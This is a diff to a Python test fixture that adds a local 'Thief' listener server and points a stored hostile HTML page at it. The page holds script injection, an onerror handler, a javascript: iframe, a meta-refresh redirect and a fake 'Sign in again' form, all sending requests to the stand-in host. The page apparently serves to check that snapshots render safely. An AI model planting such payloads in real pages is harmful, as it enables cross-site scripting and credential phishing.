@@ -15,12 +15,33 @@ from regente.engine.pipeline import Registry
 from regente.settings import Settings
 
 HOSTILE_PAGE = """<html><head><title>captured</title>
-<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/taken"></head>
+<meta http-equiv="refresh" content="0; url={thief}/taken"></head>
 <body><h1>Blocked by the shop</h1>
-<script>parent.document.title = "taken"; fetch("/api/orchestrator/stop", {method: "POST"})</script>
-<img src="http://127.0.0.1:9/seen.png" onerror="parent.document.title = 'taken'">
-<form action="http://127.0.0.1:9/" method="post">
+<script>parent.document.title = "taken"; fetch("{thief}/told", {method: "POST"})</script>
+<img src="{thief}/seen.png" onerror="parent.document.title = 'taken'">
+<form action="{thief}/" method="post">
 <button>Sign in again</button></form><iframe src="javascript:parent.document.title='taken'"></iframe></body></html>"""
+
+
+class Thief:
+    """Where the hostile page would send what it finds: each request that comes is noted."""
+
+    def __init__(self) -> None:
+        self.seen: list[str] = []
+        self.url = ""
+
+    @asynccontextmanager
+    async def waiting(self) -> AsyncIterator[Thief]:
+        server = await asyncio.start_server(self._take, "127.0.0.1", 0)
+        async with server:
+            self.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
+            yield self
+
+    async def _take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        self.seen.append((await reader.readline()).decode().strip())
+        writer.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
+        await writer.drain()
+        writer.close()
 
 
 class QuoteArgs(BaseModel):
@@ -35,6 +56,7 @@ class ShopArgs(BaseModel):
 @dataclass(slots=True)
 class Scenery:
     app: Regente
+    thief: Thief
     shop_is_open: asyncio.Event = field(default_factory=asyncio.Event)
 
     async def stuck_batch(self, name: str, *, quotes: int = 12, answered: int = 5) -> int:
@@ -55,8 +77,8 @@ class Scenery:
 async def scenery(database_url: str) -> AsyncIterator[Scenery]:
     registry = Registry()
     settings = Settings(sweep_seconds=0.5, batches_seconds=0.3, drain_seconds=1.0)
-    async with Regente(database_url, settings=settings, pipelines=registry) as app:
-        set_up = Scenery(app)
+    async with Thief().waiting() as thief, Regente(database_url, settings=settings, pipelines=registry) as app:
+        set_up = Scenery(app, thief)
 
         @registry.pipeline("route-quotes", args=QuoteArgs, retry=Retry(max_attempts=1), stall_after=None)
         async def quotes(task: Task[QuoteArgs]) -> dict[str, int]:
@@ -67,7 +89,7 @@ async def scenery(database_url: str) -> AsyncIterator[Scenery]:
         @registry.pipeline("shop-pages", args=ShopArgs, retry=Retry(max_attempts=1))
         async def shop_pages(task: Task[ShopArgs]) -> str:
             if not set_up.shop_is_open.is_set():
-                task.snapshot("page.html", HOSTILE_PAGE)
+                task.snapshot("page.html", HOSTILE_PAGE.replace("{thief}", thief.url))
                 raise Fatal("the shop shows a page without prices", code=task.args.code, details={"status": 403})
             return task.args.product
 
